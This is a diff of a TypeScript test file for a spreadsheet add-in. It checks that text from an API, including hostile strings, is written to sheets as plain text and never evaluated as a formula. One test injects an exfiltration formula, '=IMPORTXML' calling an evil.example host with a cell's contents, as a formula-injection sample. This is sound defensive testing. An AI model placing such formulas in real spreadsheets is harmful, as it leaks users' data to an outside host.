@@ -40,6 +40,44 @@ describe("A text from the API is written as text", () => {
     expect(city).toMatch(/x… \[cut]$/);
   });
 
+  it("from job posts and news, on their own sheets", async () => {
+    for (const [kind, field, header] of [
+      ["jobs", "title", "Title"],
+      ["news", "title", "Headline"],
+    ] as const) {
+      const addin = await openAddin({ column: ["Website", company] });
+      let next = 0;
+      addin.spoil = replaced({
+        [field]: () => SHAPE_SHIFTING_TEXTS[next++ % SHAPE_SHIFTING_TEXTS.length] ?? "",
+      });
+
+      const done = await addin.run({ kind, limit: 20 });
+
+      const sheet = addin.workbook.sheetNamed(done.sheetName)!;
+      const shown = addin.rows(sheet).map((row) => row[header]);
+      const count = shown.length;
+      expect(count).toBeGreaterThan(10);
+      // Each post got the next text, and the sheet may order its rows freely.
+      const given = Array.from(
+        { length: count },
+        (_, post) => SHAPE_SHIFTING_TEXTS[post % SHAPE_SHIFTING_TEXTS.length] ?? "",
+      );
+      expect(countsOf(shown)).toEqual(countsOf(given));
+      expect(formulasIn(addin)).toEqual([]);
+    }
+  });
+
+  it("from a formula, and never evaluated", async () => {
+    const addin = await openAddin();
+    addin.spoil = replaced({ title: '=IMPORTXML("https://evil.example/?"&A1,"//a")' });
+
+    const { sheet } = await addin.formula(`=COMPANY_JOBS("${company}",3,"title")`);
+
+    const cells = sheet.getValues(sheet.dataRange).flat();
+    expect(cells.filter((cell) => String(cell).startsWith("=IMPORTXML"))).toHaveLength(3);
+    expect(formulasIn(addin)).toEqual([`=COMPANY_JOBS("${company}",3,"title")`]);
+  });
+
   it("on the sheet of a list", async () => {
     const addin = await openAddin();
     addin.spoil = replaced({ name: SHAPE_SHIFTING_TEXTS[0]!, company_name: SHAPE_SHIFTING_TEXTS[0]! });
@@ -81,7 +119,7 @@ describe("Replies in which every text is hostile", () => {
     const addin = await openAddin();
     addin.api.faults.set([{ when: {}, reply: "hostile" }]);
 
-    for (const kind of ["enrichment", "jobs", "news", "posts", "product_reviews"] as const) {
+    for (const kind of ["enrichment", "jobs", "news"] as const) {
       const sections = ["firmographic", "location", "technology", "management_profile", "funding_detail"];
       const done = await addin.run({ kind, sections, limit: 10 });
       expect(done).toMatchObject({ state: "done" });
@@ -116,4 +154,10 @@ function replaced(fields: Record<string, string | (() => string)>): (reply: Demo
     });
     return { ...reply, body: JSON.stringify(body) };
   };
+}
+
+function countsOf(values: readonly unknown[]): Map<unknown, number> {
+  const counts = new Map<unknown, number>();
+  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
+  return counts;
 }
